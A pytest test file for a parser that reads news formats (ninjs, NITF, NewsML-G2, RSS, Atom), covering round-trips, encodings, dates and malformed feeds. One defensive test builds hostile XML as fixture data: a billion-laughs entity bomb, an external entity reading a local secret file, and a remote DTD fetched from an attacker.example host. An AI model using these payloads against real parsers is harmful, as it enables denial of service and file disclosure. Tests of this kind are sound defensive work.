"""The news industry's formats: what is written in their own structure is read back, and what is broken costs only itself."""

import dataclasses
import io
import json
import logging
import re
import tracemalloc
from datetime import datetime

import pytest
import standards
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from detector.datatypes import Article, DeclaredRelation, SkippedFile
from detector.errors import UnreadableArticleError
from detector.ingestion.formats.feed import FEED
from detector.ingestion.formats.format import PEEK_BYTES, Limits
from detector.ingestion.formats.jsondocument import JSON
from detector.ingestion.formats.markup import iso_date, one_line, text_of_markup
from detector.ingestion.formats.newsml import NEWSML_G2
from detector.ingestion.formats.ninjs import article_from_ninjs, is_ninjs
from detector.ingestion.formats.nitf import NITF

LIMITS = Limits(max_file_bytes=1_000_000)
TEXT = "The council voted on Tuesday to rebuild the bridge.\n\nWork is to begin in March,\nand to last a year."
ARTICLE = Article(
    id="urn:newsml:desk.example:20260120:bridge",
    title="Town to rebuild “its” bridge & pier",
    text=TEXT,
    published="2026-01-20T10:15:00+01:00",
    modified="2026-01-21T08:00:00+01:00",
    language="en-GB",
    outlet="Harbour Gazette",
    alternate_ids=("BRIDGE-20260120",),
    credit="Coast Agency",
    dateline="Orvel",
)
WRITERS = {
    "ninjs 1": (standards.write_ninjs_1, JSON),
    "ninjs 2": (standards.write_ninjs_2, JSON),
    "ninjs 3": (standards.write_ninjs_3, JSON),
    "NITF": (standards.write_nitf, NITF),
    "NewsML-G2, XHTML": (standards.write_newsml_g2, NEWSML_G2),
    "NewsML-G2, NITF": (standards.write_newsml_g2_nitf, NEWSML_G2),
    "RSS 2.0": (standards.write_rss, FEED),
    "RSS 1.0": (standards.write_rss_1, FEED),
    "Atom": (standards.write_atom, FEED),
}
FEEDS = ("RSS 2.0", "RSS 1.0", "Atom")


def parse(form, content, limits=LIMITS):
    return list(form.parse(io.BytesIO(content if isinstance(content, bytes) else content.encode()), "f.xml", "f.xml", limits))


def articles_of(form, content, limits=LIMITS):
    return [record[0] for record in parse(form, content, limits) if not isinstance(record, SkippedFile)]


def reasons_of(form, content, limits=LIMITS):
    return {record.path: record.reason for record in parse(form, content, limits) if isinstance(record, SkippedFile)}


def rss(*items, head="<title>Gazette</title>", start="<rss version='2.0'>"):
    return f"{start}<channel>{head}{''.join(f'<item>{item}</item>' for item in items)}</channel></rss>"


def body(text="The council voted to rebuild the bridge."):
    return f"<title>Bridge</title><description>{text}</description>"


def nitf(content, head="", attributes=""):
    return f"<nitf {attributes}><head>{head}</head><body><body.content>{content}</body.content></body></nitf>"


lines = st.text(
    alphabet=st.one_of(
        st.sampled_from("aZ 9.,&<>\"'éß我们あ한हिاבяქ\u0301\u200d\u200f\u00a0\u2028\u3000😀;#"),
        st.characters(categories=("L", "N", "P", "M")),
    ),
    min_size=1,
    max_size=40,
).map(lambda text: re.sub(r"[ \t\r\n\f]+", " ", text).strip(" "))
paragraph = st.lists(lines.filter(bool), min_size=1, max_size=3).map("\n".join)
texts = st.lists(paragraph, min_size=1, max_size=4).map("\n\n".join).filter(lambda text: any(map(str.isalpha, text)))
titles = lines.map(lambda line: " ".join(line.split()))


@pytest.mark.parametrize("name", WRITERS)
@given(text=texts, title=titles, second=texts, when=st.datetimes(datetime(1990, 1, 1), datetime(2100, 1, 1)))
@settings(max_examples=25, deadline=None)
def test_what_is_written_is_read_back(name, text, title, second, when):
    """Text, title, moment and language, in any script, with marks and ampersands; of one article and of two in a file."""
    write, form = WRITERS[name]
    published = when.replace(microsecond=0).isoformat() + "+00:00"
    one = dataclasses.replace(ARTICLE, text=text, title=title, published=published, modified=published)
    other = dataclasses.replace(one, id="urn:other", text=second)
    for written in ([one], [one, other]):
        content = write(written)
        assert len(written) > 1 or form.recognises(content[:PEEK_BYTES])
        read = articles_of(form, content)
        assert [article.text for article in read] == [article.text for article in written]
        for article in read:
            assert (article.title, article.language) == (title, "en-GB")
            assert datetime.fromisoformat(article.published) == datetime.fromisoformat(published)


@pytest.mark.parametrize("name", WRITERS)
def test_provenance_is_read_back(name):
    """Id, outlet, credit, dateline, other names and last change, each where its standard has a place for it."""
    write, form = WRITERS[name]
    ((article, has_own_id),) = parse(form, write([ARTICLE]))
    assert article.path == "f.xml"
    assert article.outlet == "Harbour Gazette"
    if name in FEEDS:
        assert (article.id, has_own_id, article.alternate_ids) == ("f.xml#1", False, (ARTICLE.id,))
    else:
        assert (article.id, has_own_id) == (ARTICLE.id, True)
        assert set(article.alternate_ids) - {ARTICLE.id} == set(ARTICLE.alternate_ids)
        assert (article.credit, article.dateline) == ("Coast Agency", "Orvel")
    if name not in ("RSS 2.0", "RSS 1.0"):
        assert datetime.fromisoformat(article.modified) == datetime.fromisoformat(ARTICLE.modified)


@pytest.mark.parametrize("name", WRITERS)
def test_no_format_takes_another_for_its_own(name):
    """What is recognised is certain: exactly one of the four knows each file."""
    write, form = WRITERS[name]
    start = write([ARTICLE])[:PEEK_BYTES]
    assert [other for other in (JSON, NEWSML_G2, NITF, FEED) if other.recognises(start)] == [form]


@pytest.mark.parametrize(
    ("start", "form"),
    [
        (b"\xef\xbb\xbf<?xml version='1.0'?><!-- <rss> --><!DOCTYPE nitf SYSTEM 'nitf-3-4.dtd'>\n<nitf>", NITF),
        (b"<!DOCTYPE nitf [" + b"<!ENTITY a 'b'>" * 400, NITF),
        ("<?xml version='1.0' encoding='UTF-16'?><x:newsItem>".encode("utf-16"), NEWSML_G2),
        (b"<newsMessage xmlns='http://iptc.org/std/nar/2006-10-01/'>", NEWSML_G2),
        (b"<a:feed xmlns:a='http://www.w3.org/2005/Atom'>", FEED),
        (b"<feed xmlns='https://ship.example/animals'>", None),
        (b"<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>", None),
        (b"<NewsML Version='1.2'>", None),
        (b"<html><body>rss</body></html>", None),
    ],
)
def test_a_format_is_told_by_its_root(start, form):
    """Through marks, comments and declarations, with any prefix."""
    assert [one for one in (JSON, NEWSML_G2, NITF, FEED) if one.recognises(start[:PEEK_BYTES])] == ([form] if form else [])


# XML from strangers


def test_entities_are_not_expanded_and_files_not_read(tmp_path):
    """What is declared stays what is written: a bomb is a few letters, an external file is not there."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET")
    laughs = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 30))
    doctype = (
        f'<!DOCTYPE rss [<!ENTITY lol0 "ha">{laughs}<!ENTITY file SYSTEM "{secret.as_uri()}">'
        f'<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; <!-- don\'t > -->]>'
    )
    tracemalloc.start()
    (article,) = articles_of(FEED, doctype + rss(body("The council &lol29; voted &file; on Tuesday.")))
    assert tracemalloc.get_traced_memory()[1] < 5_000_000
    tracemalloc.stop()
    assert article.text == "The council &lol29; voted &file; on Tuesday."


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("caf&eacute;&nbsp;&ndash; open", "café\u00a0– open"),
        ("R&D at AT&T; and more", "R&D at AT&T; and more"),
        ("one\x0btwo&#11;three", "onetwothree"),
        ("three < four & five <6", "three < four & five <6"),
        ("<![CDATA[a &amp; b<br>c </item> &nosuch;]]>", "a & b\nc\n&nosuch;"),
    ],
)
def test_faults_of_real_feeds_lose_no_letter(written, read):
    """Entities of HTML, bare ampersands and brackets, control characters, tags in CDATA."""
    (article,) = articles_of(FEED, rss(body(written)))
    assert " ".join(article.text.split(" ")).replace("\n", " ") == read.replace("\n", " ")


def test_a_prefix_that_is_not_declared_is_understood():
    """Of the usual modules as what it usually is, of others as nothing; the entry is read."""
    (article,) = articles_of(FEED, rss(f"{body()}<content:encoded>All of it.</content:encoded><foo:bar>x</foo:bar>"))
    assert article.text == "All of it."


def test_a_broken_entry_costs_only_itself():
    """Tags that cross, and an entry that is never closed; a break that loses no letter is mended."""
    content = rss(body(), "<title>A</title><description>Lost <b>here</description>", body())
    assert len(articles_of(FEED, content)) == 3
    content = rss(body(), '<title>A</title><description a="<b">x</description>', body("Third."))
    assert [article.text for article in articles_of(FEED, content)][-1] == "Third."
    assert "well-formed XML" in reasons_of(FEED, content)["f.xml:2"]
    content = f"<rss><channel><item>{body('First.')}<item>{body('Second.')}</item></channel></rss>"
    assert [article.text for article in articles_of(FEED, content)] == ["First.", "Second."]


def test_a_file_that_breaks_off_gives_what_came_before():
    """With the reason, and without half an entry."""
    content = rss(body("First."), body("Second."))
    cut = content[: content.index("Second.") + 3]
    assert [article.text for article in articles_of(FEED, cut)] == ["First."]
    assert reasons_of(FEED, cut) == {"f.xml:2": "a file must be whole, ended within its item; fetch it again"}
    assert list(reasons_of(FEED, content.removesuffix("</rss>"))) == ["f.xml"]


@pytest.mark.parametrize(
    ("declared", "actual"),
    [
        ("utf-8", "utf-8-sig"),
        ("UTF-16", "utf-16"),
        ("UTF-16LE", "utf-16-le"),
        ("windows-1251", "cp1251"),
        ("iso-8859-1", "utf-8"),
        ("Shift_JIS", "shift_jis"),
        ("no-such-thing", "utf-8"),
        ("zlib", "utf-8"),
    ],
)
def test_any_encoding_is_read_and_the_bytes_are_believed(declared, actual):
    """A mark goes before the bytes, the bytes before the declaration, that before a guess."""
    text = {"cp1251": "Городской совет проголосовал.", "shift_jis": "市議会は橋の再建を可決した。"}.get(
        actual, "Der Rat beschloß “es”."
    )
    content = f"<?xml version='1.0' encoding='{declared}'?>{rss(body(text))}".encode(actual)
    assert [article.text for article in articles_of(FEED, content)] == [text]


def test_windows_letters_in_utf_8_are_read_as_such():
    """A few bytes that are no UTF-8, pasted by hand, cost neither the feed nor their letters."""
    content = rss(body("Der Rat beschloß: Überall Grün für die Brücke. QUOTE")).encode().replace(b"QUOTE", b"\x93Ja\x94")
    assert articles_of(FEED, content)[0].text.endswith("“Ja”")


@pytest.mark.parametrize("unit", ["<b>", "<div>", "<!--", "<![CDATA[", "<item>", "<item ", "<!DOCTYPE a ['", "&", "<?", "<"])
def test_hostile_markup_ends_soon_and_in_a_reason(unit):
    """Twenty thousand times the same opening, never closed: nothing is raised but what is meant to be."""
    for content in (unit * 20_000, f"<rss><channel><item>{body()}</item><item><description>{unit * 20_000}"):
        try:
            records = parse(FEED, content)
        except UnreadableArticleError as error:
            assert "must have" in error.reason
        else:
            assert any(isinstance(record, SkippedFile) for record in records)


def test_a_record_that_is_too_large_is_skipped_and_the_next_is_read():
    """The limit is that of one record; the reason names the setting."""
    content = rss(body("x" * 5_000), body("Small."))
    limits = Limits(max_file_bytes=2_000)
    assert [article.text for article in articles_of(FEED, content, limits)] == ["Small."]
    assert "max_file_bytes" in reasons_of(FEED, content, limits)["f.xml:1"]


class Endless(io.RawIOBase):
    """A feed that is made while it is read, so that only its reader needs memory."""

    def __init__(self, head, item, n_items, tail):
        self.parts = iter([head, *[item * 100] * (n_items // 100), tail])
        self.rest = b""

    def read(self, size=-1):
        while len(self.rest) < size and (part := next(self.parts, None)) is not None:
            self.rest += part
        piece, self.rest = self.rest[:size], self.rest[size:]
        return piece


@pytest.mark.parametrize("form", [FEED, NEWSML_G2])
def test_memory_does_not_grow_with_the_file(form):
    """Ten times the records need no more memory than one time."""
    item = (
        standards.newsml_item(ARTICLE, standards.xhtml_of(ARTICLE))
        if form is NEWSML_G2
        else f"<item>{body('Words. ' * 200)}</item>\n"
    )
    head, tail = (
        ("<newsMessage><itemSet>", "</itemSet></newsMessage>") if form is NEWSML_G2 else ("<rss><channel>", "</channel></rss>")
    )
    peaks = []
    for n_items in (100, 1_000):
        tracemalloc.start()
        n_read = sum(1 for _ in form.parse(Endless(head.encode(), item.encode(), n_items, tail.encode()), "f", "f", LIMITS))
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        assert n_read == n_items
    assert peaks[1] < peaks[0] * 1.5 + 500_000


# ninjs


def test_of_several_bodies_the_marked_and_main_one_is_taken():
    """HTML before plain text, the main one before others; a body in another XML is not text."""
    bodies = [
        {"role": "teaser", "contentType": "text/html", "value": "<p>Short.</p>"},
        {"role": "main", "contentType": "text/plain", "value": "Plain."},
        {"role": "main", "contentType": "application/xhtml+xml", "value": "<h1>T</h1><p>One.</p><p>Two.</p>"},
        {"role": "main", "contentType": "application/xml", "value": "<X>Other</X>"},
    ]
    item = {"uri": "a", "headlines": [{"role": "short", "value": "S"}, {"role": "main", "value": "T"}], "bodies": bodies}
    article = article_from_ninjs(item, "f", "f")
    assert (article.title, article.text) == ("T", "One.\n\nTwo.")
    assert article_from_ninjs({**item, "bodies": bodies[1:2]}, "f", "f").text == "Plain."


def test_superdesk_items_are_read():
    """They have a ``guid``, ``body_html``, and relations of their own names."""
    item = {
        "guid": "tag:desk:1", "version": "3", "type": "text", "headline": "Bridge", "body_html": "<p>One.</p>", "source": "AAP",
        "evolvedfrom": "tag:desk:0", "translated_from": "tag:desk:9", "pubstatus": "usable",
        "versioncreated": "2026-01-20T10:00:00+0000",
        "associations": {"featuremedia": {"type": "picture", "guid": "p"}, "more": {"type": "text", "guid": "tag:desk:5"}},
    }  # fmt: skip
    assert is_ninjs(item)
    article = article_from_ninjs(item, "f", "f")
    assert (article.id, article.version, article.alternate_ids, article.outlet) == ("tag:desk:1:3", "3", ("tag:desk:1",), "AAP")
    assert [(one.kind, one.target) for one in article.relations] == [
        ("evolvedfrom", "tag:desk:0"),
        ("translated_from", "tag:desk:9"),
        ("associations", "tag:desk:5"),
    ]


def test_an_association_keeps_its_own_relation():
    """``rel`` is a free string of the sender, and so is its name here."""
    relation = DeclaredRelation(kind="translationOf", target="urn:de", language="de")
    (article,) = articles_of(JSON, standards.write_ninjs_3([dataclasses.replace(ARTICLE, relations=(relation,))]))
    assert article.relations == (relation,)


def test_whole_items_within_an_item_are_articles():
    """A package has no text of its own, its members have; a picture's caption is no article."""
    member = json.loads(standards.write_ninjs_3([ARTICLE])) | {"name": "main"}
    inner = {"name": "sub", "uri": "urn:sub", "type": "composite", "associations": [member | {"uri": "urn:b"}]}
    picture = {"name": "p", "uri": "urn:p", "type": "picture", "versionCreated": "2026-01-20"}
    picture |= {"pubStatus": "usable", "descriptions": [{"value": "The pier at noon."}]}
    package = {"uri": "urn:p", "type": "composite", "versionCreated": "2026-01-20", "associations": [member, inner, picture]}
    assert [article.id for article in articles_of(JSON, json.dumps(package))] == [ARTICLE.id, "urn:b"]
    assert parse(JSON, json.dumps(package))[0][1] is True
    assert "type: picture" in reasons_of(JSON, json.dumps(picture))["f.xml"]


def test_items_a_line_are_read_line_by_line():
    """A broken line costs only itself."""
    good = standards.write_ninjs_3([ARTICLE]).decode()
    content = "\n".join([good, '{"uri": ', "3", good])
    assert len(articles_of(JSON, content)) == 2
    assert list(reasons_of(JSON, content)) == ["f.xml:2", "f.xml:3"]


def test_an_item_without_words_is_told_why():
    """With what it is."""
    item = {"uri": "a", "versioncreated": "2026-01-20", "type": "text", "pubstatus": "canceled"}
    assert "type: text, pubStatus: canceled" in reasons_of(JSON, json.dumps(item))["f.xml"]


def test_declared_fields_go_before_those_of_the_standard():
    """Where an item has one of them; another one is read by the standard."""
    limits = dataclasses.replace(LIMITS, fields={"title": "slugline"})
    item = json.loads(standards.write_ninjs_1([ARTICLE])) | {"version": "2"}
    (standard,) = articles_of(JSON, json.dumps(item), limits)
    (declared,) = articles_of(JSON, json.dumps(item | {"slugline": "BRIDGE"}), limits)
    assert (standard.title, standard.id) == (ARTICLE.title, f"{ARTICLE.id}:2")
    assert (declared.title, declared.id) == ("BRIDGE", ARTICLE.id)


# NewsML-G2 and NITF


@pytest.mark.parametrize(
    ("form", "content"),
    [
        (JSON, json.dumps({"uri": "u", "pubstatus": "canceled", "versioncreated": "2026-01-20", "body_text": "Killed story."})),
        (NEWSML_G2, standards.newsml_item(ARTICLE, standards.xhtml_of(ARTICLE), status="canceled")),
        (NITF, nitf("<p>Killed story.</p>", "<docdata management-status='canceled'/>")),
    ],
)
def test_a_killed_story_is_read_and_logged(form, content, caplog):
    """Copies of it can be live elsewhere, and they cannot be found without it."""
    with caplog.at_level(logging.WARNING, logger="detector"):
        assert len(articles_of(form, content)) == 1
    assert "canceled" in caplog.text


def test_each_version_of_an_item_is_an_article():
    """Guid and version together name one; the guid alone still finds all."""
    versions = [dataclasses.replace(ARTICLE, version=str(number), alternate_ids=()) for number in (1, 2, 3)]
    first, second, third = articles_of(NEWSML_G2, standards.write_newsml_g2(versions))
    assert (first.id, second.id, third.id) == (ARTICLE.id, f"{ARTICLE.id}:2", f"{ARTICLE.id}:3")
    assert first.alternate_ids == second.alternate_ids == (ARTICLE.id,)


def metadata(item):
    """List the elements of an item's metadata, each with its attributes and words, in an order of their own."""
    blocks = (item.find("{*}itemMeta"), item.find("{*}contentMeta"))
    return sorted((part.tag, sorted(part.attrib.items()), (part.text or "").strip()) for block in blocks for part in block.iter())


def test_the_items_of_these_tests_are_newsml_g2():
    """The standard's own implementation knows each element and attribute of them; what it does not know it loses."""
    NewsMLG2 = pytest.importorskip("NewsMLG2")  # noqa: N806  # the package's own name
    related = dataclasses.replace(ARTICLE, relations=(DeclaredRelation(kind="irel:seeAlso", target="urn:x"),))
    content = standards.write_newsml_g2([related])
    understood = NewsMLG2.NewsMLG2Document(content).get_item().to_xml()
    assert metadata(understood) == metadata(etree.fromstring(content))
    assert (understood.get("guid"), understood.get("version")) == (ARTICLE.id, "1")
    wrong = content.replace(b"<headline>", b'<headline language="en">')
    assert metadata(NewsMLG2.NewsMLG2Document(wrong).get_item().to_xml()) != metadata(etree.fromstring(wrong))


def test_links_and_signals_are_relations():
    """Under the names that the item gives them; a correction points to the item that it corrects."""
    item = standards.newsml_item(
        dataclasses.replace(ARTICLE, relations=(DeclaredRelation(kind="irel:seeAlso", target="urn:x"),)),
        standards.xhtml_of(ARTICLE),
    ).replace("</itemMeta>", '<signal qcode="sig:correction"/></itemMeta>')
    (article,) = articles_of(NEWSML_G2, item)
    assert [(one.kind, one.target) for one in article.relations] == [("irel:seeAlso", "urn:x"), ("sig:correction", ARTICLE.id)]


def test_inline_data_is_text_html_or_packed():
    """By its content type and encoding."""
    for content in (
        '<inlineData contenttype="text/plain">One.\n\nTwo.</inlineData>',
        '<inlineData contenttype="text/html">&lt;p&gt;One.&lt;/p&gt;Two.</inlineData>',
        '<inlineData contenttype="text/plain" encoding="encd:base64">T25lLgoKVHdvLg==</inlineData>',
    ):
        assert articles_of(NEWSML_G2, standards.newsml_item(ARTICLE, content))[0].text == "One.\n\nTwo."


def test_a_package_is_links_and_no_article():
    """Beside articles it is passed over; alone it is skipped with a reason."""
    package = "<packageItem guid='p'><groupSet><group><itemRef residref='urn:a'/></group></groupSet></packageItem>"
    item = standards.newsml_item(ARTICLE, standards.xhtml_of(ARTICLE))
    assert len(parse(NEWSML_G2, f"<newsMessage><itemSet>{package}{item}</itemSet></newsMessage>")) == 1
    with pytest.raises(UnreadableArticleError, match="only links"):
        parse(NEWSML_G2, package)
    remote = standards.newsml_item(ARTICLE, "<remoteContent href='x.jpg'/>").replace("ninat:text", "ninat:picture")
    with pytest.raises(UnreadableArticleError, match=r"remoteContent \(itemClass: picture"):
        parse(NEWSML_G2, remote)


def test_nitf_gives_paragraphs_and_no_captions():
    """Headings, quotations, lists and the rows of a table; media are left out."""
    content = (
        "<block><p>One <em>and</em>\n  a half.</p><hl2>Heading</hl2><bq><block><p>Said.</p></block></bq></block>"
        "<media media-type='image'><media-caption>Caption</media-caption></media><ul><li>First</li><li>Second</li></ul>"
        "<table><tr><td>Orvel</td><td>3</td></tr><tr><td>Brik</td><td>1</td></tr></table>"
    )
    (article,) = articles_of(NITF, nitf(content))
    assert article.text.split("\n\n") == ["One and a half.", "Heading", "Said.", "First", "Second", "Orvel 3\nBrik 1"]


def test_nitf_names_versions_and_corrections():
    """``du-key`` joins a story's versions, ``correction`` names what is corrected, the newest revision is the last change."""
    head = (
        "<title>Bridge</title><docdata><doc-id id-string='d2'/><du-key key='BRIDGE' version='4'/><correction id-string='d1'/>"
        "<date.release norm='20260120'/></docdata><pubdata name='Gazette' ex-ref='https://gazette.example/2'/>"
        "<revision-history norm='20260121T080000Z'/><revision-history norm='20260122T080000+0100'/>"
    )
    (article,) = articles_of(NITF, nitf("<p>Words.</p>", head, "xml:lang='de' uno='u:1'"))
    assert (article.id, article.alternate_ids, article.version) == ("d2", ("u:1", "BRIDGE"), "4")
    assert (article.title, article.language, article.outlet, article.url) == (
        "Bridge",
        "de",
        "Gazette",
        "https://gazette.example/2",
    )
    assert (article.published, article.modified) == ("2026-01-20", "2026-01-22T08:00:00+01:00")
    assert article.relations == (DeclaredRelation(kind="correction", target="d1"),)


def test_a_lead_paragraph_that_is_repeated_is_read_once():
    """As in a well-known corpus, whose blocks say which they are."""
    content = '<block class="lead_paragraph"><p>One.</p></block><block class="full_text"><p>One.</p><p>Two.</p></block>'
    assert articles_of(NITF, nitf(content))[0].text == "One.\n\nTwo."


# Feeds


def test_the_full_text_goes_before_the_summary():
    """And where there is none the summary is the text; an entry without words is skipped."""
    full = "<content:encoded><![CDATA[<p>One.</p><p>Two.</p>]]></content:encoded>"
    content = rss(body("Summary.") + full, body("Summary."), "<title>Bridge</title>")
    assert [article.text for article in articles_of(FEED, content)] == ["One.\n\nTwo.", "Summary."]
    assert "had: title" in reasons_of(FEED, content)["f.xml:3"]


def test_a_feed_says_where_its_entries_come_from():
    """The feed of origin, alternates in other languages, and what Dublin Core names."""
    item = (
        '<link>https://gazette.example/1</link><guid>https://gazette.example/?p=1</guid><source url="https://o.example/rss">Origin</source>'
        '<a:link xmlns:a="http://www.w3.org/2005/Atom" rel="alternate" hreflang="de" href="https://gazette.example/1/de"/>'
        "<dcterms:isVersionOf>https://o.example/1</dcterms:isVersionOf><dcterms:modified>2026-01-21</dcterms:modified>"
        "<pubDate>Tue, 20 Jan 2026 10:15:00 +0100</pubDate>"
    )
    (article,) = articles_of(FEED, rss(body() + item, head="<title>Gazette</title><language>en</language>"))
    assert (article.outlet, article.credit, article.language, article.url) == (
        "Gazette",
        "Origin",
        "en",
        "https://gazette.example/1",
    )
    assert (article.published, article.modified) == ("2026-01-20T10:15:00+01:00", "2026-01-21")
    assert article.alternate_ids == ("https://gazette.example/?p=1",)
    assert article.relations == (
        DeclaredRelation(kind="alternate", target="https://gazette.example/1/de", language="de"),
        DeclaredRelation(kind="source", target="https://o.example/rss"),
        DeclaredRelation(kind="isVersionOf", target="https://o.example/1"),
    )


def test_a_number_is_a_name_only_within_its_feed():
    """Two feeds that count their entries do not have the same articles; one feed on two days has."""
    items = [body() + f'<guid isPermaLink="false">{guid}</guid>' for guid in ("7", "tag:gazette.example,2026:7")]
    assert [article.alternate_ids for article in articles_of(FEED, rss(*items))] == [
        ("Gazette#7",),
        ("tag:gazette.example,2026:7",),
    ]
    (article,) = articles_of(FEED, rss(items[0], head=""))
    assert article.alternate_ids == ()


def test_atom_text_is_what_its_type_says():
    """``text`` holds letters, the others markup; the language is inherited, the source of a copied entry is its credit."""
    entries = "".join(
        f"<a:entry><a:title>T</a:title><a:id>urn:{kind}</a:id><a:updated>2026-01-20T10:00:00Z</a:updated>"
        f'<a:link rel="via" href="https://o.example/1"/><a:content type="{kind}">{content}</a:content>'
        "<a:source><a:id>urn:o</a:id><a:title>Origin</a:title></a:source></a:entry>"
        for kind, content in (
            ("text", "if a &lt;b&gt; c"),
            ("html", "&lt;p&gt;One.&lt;/p&gt;"),
            ("xhtml", '<div xmlns="http://www.w3.org/1999/xhtml"><p>One.</p></div>'),
        )
    )
    feed = f'<a:feed xmlns:a="http://www.w3.org/2005/Atom" xml:lang="fr"><a:title>Gazette</a:title>{entries}</a:feed>'
    read = articles_of(FEED, feed)
    assert [article.text for article in read] == ["if a <b> c", "One.", "One."]
    assert {(article.language, article.outlet, article.credit) for article in read} == {("fr", "Gazette", "Origin")}
    assert [one.kind for one in read[0].relations] == ["via", "source"]


# Markup and dates


@given(st.text(st.sampled_from("a b\n\t\u00a0\u2003\u200b\x1cé— "), max_size=12) | st.text(max_size=30))
def test_a_line_has_single_spaces_and_none_at_its_ends(text):
    """White space of any kind is one space, as if a text were split and joined again."""
    assert one_line(text) == " ".join(text.split())


@given(st.text(max_size=300))
@settings(max_examples=150, deadline=None)
def test_markup_loses_no_letter_outside_its_tags(text):
    """Whatever stands there, escaped and in a tag that is known or not."""
    kept = re.sub(r"[\x00\x1d-\x1f]", "", text)
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    for markup in (f"<p>{escaped}</p>", f"<div>{escaped}<br>", f"<x-y>{escaped}"):
        assert "".join(text_of_markup(markup).split()) == "".join(kept.split())


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("20260120T101500Z", "2026-01-20T10:15:00+00:00"),
        ("20260120T101500+0100", "2026-01-20T10:15:00+01:00"),
        ("20260120", "2026-01-20"),
        ("20260120101500", "2026-01-20T10:15:00"),
        ("2026-01-20+01:00", "2026-01-20"),
        ("Tue, 20 Jan 2026 10:15 EST", "2026-01-20T10:15:00-05:00"),
        ("2026-02-31", None),
        ("2026", None),
        ("yesterday", None),
    ],
)
def test_dates_are_read_in_the_forms_of_each_standard(written, read, caplog):
    """One that is none is left out, and not in silence."""
    assert iso_date(written, "published", "f.xml") == read
    assert bool(caplog.text) == (read is None)


def test_relative_links_of_an_entry_lead_where_its_feed_says():
    """Atom's ``xml:base`` is resolved, and the link in the entry's own language is its address and no relation."""
    feed = (
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en" xml:base="https://gazette.example/news/"><title>Gazette</title>'
        "<entry><id>tag:gazette.example,2026:1</id><title>Town to rebuild its bridge</title>"
        '<link rel="alternate" hreflang="en" href="1.html"/><link rel="alternate" hreflang="fr" href="/fr/1.html"/>'
        "<updated>2026-03-17T20:03:00Z</updated><content>The council voted to rebuild the bridge.</content></entry></feed>"
    )
    (article,) = articles_of(FEED, feed)
    assert article.url == "https://gazette.example/news/1.html"
    assert article.relations == (DeclaredRelation(kind="alternate", target="https://gazette.example/fr/1.html", language="fr"),)
